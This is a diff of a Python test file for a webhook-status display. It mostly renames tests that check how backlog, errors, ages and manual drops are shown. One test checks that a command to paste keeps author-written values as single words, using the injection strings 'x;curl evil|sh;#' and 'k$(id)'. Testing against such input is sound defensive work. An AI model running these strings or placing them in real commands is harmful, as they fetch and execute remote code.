@@ -65,7 +65,7 @@ def test_what_the_agent_cannot_do_stands_below_its_name() -> None:
     assert lines[at + 1 : at + 3] == ["               ! no index is there", "               ! lease: forbidden"]
 
 
-def test_a_parked_webhook_tells_why_since_when_and_what_helps() -> None:
+def test_a_parked_webhook_says_why_since_when_and_what_to_do() -> None:
     shown = details(
         {
             "backlog": 12,
@@ -110,7 +110,7 @@ def as_of(now: str, row: Mapping[str, Any], **webhook: Any) -> WebhookDetails:
     return replace(shown, agent=replace(shown.agent, report={**REPORT, "now": now}))
 
 
-def test_moments_are_told_with_their_age() -> None:
+def test_moments_are_shown_with_their_age() -> None:
     row = {"lastDelivery": "2026-01-01T00:00:00Z", "nextRetry": "2026-01-01T01:11:30Z", "delivering": False}
     row |= {"delivery": "server_error: 503", "failingSince": "2026-01-01T00:02:00Z"}
     text = for_people(as_of("2026-01-01T00:12:00Z", row))
@@ -125,7 +125,7 @@ def test_the_last_error_is_dated_also_where_all_is_well_again() -> None:
     assert "Last error:    503 Service Unavailable, at 2026-01-01T00:02:00Z (10m ago)" in text
 
 
-def test_an_agent_that_is_silent_or_tells_nothing_is_told_before_what_it_last_wrote() -> None:
+def test_an_agent_that_is_silent_or_reports_nothing_is_named_before_what_it_last_wrote() -> None:
     shown = details()
     silent = replace(shown, agent=replace(shown.agent, silent="the agent a/b has been silent for 20s: what follows"))
     dead = replace(shown, agent=replace(shown.agent, report={**REPORT, "running": False}))
@@ -139,7 +139,7 @@ def test_an_agent_that_is_silent_or_tells_nothing_is_told_before_what_it_last_wr
         assert "the agent: `kubectl sew check`" in list(advice(seen))
 
 
-def test_what_waits_is_told_by_the_agent_and_nothing_older_contradicts_it() -> None:
+def test_what_waits_is_reported_by_the_agent_and_nothing_older_contradicts_it() -> None:
     behind = "about 19,000 events wait, the oldest for 3 h; at most 1 a second are sent, so the last is sent in 5 h"
     old = Condition("Delivering", "True", "Delivering", "nothing is waiting", 3)
     text = for_people(
@@ -165,7 +165,7 @@ def test_a_webhook_that_matches_nothing_says_since_when_and_what_would_show_why(
     assert "preview-query" not in early
 
 
-def test_a_store_that_fills_is_told() -> None:
+def test_a_store_that_fills_is_shown() -> None:
     assert "Store:         85% of its share is used" in for_people(details({"room": 0.85}))
 
 
@@ -216,6 +216,6 @@ def test_a_command_to_paste_holds_what_an_author_wrote_as_one_word() -> None:
     assert command[5:] == ["generic", "x;curl evil|sh;#", "--from-file=k$(id)=FILE"]
 
 
-def test_what_was_given_up_by_hand_is_told() -> None:
+def test_what_was_given_up_by_hand_is_shown() -> None:
     act = {"at": "2026-01-01T00:00:00Z", "who": "ann@desk", "what": "backlog_dropped", "count": 19_914}
     assert "Given up:      19,914 by ann@desk, 2026-01-01T00:00:00Z" in for_people(details({"byHand": [act]}))
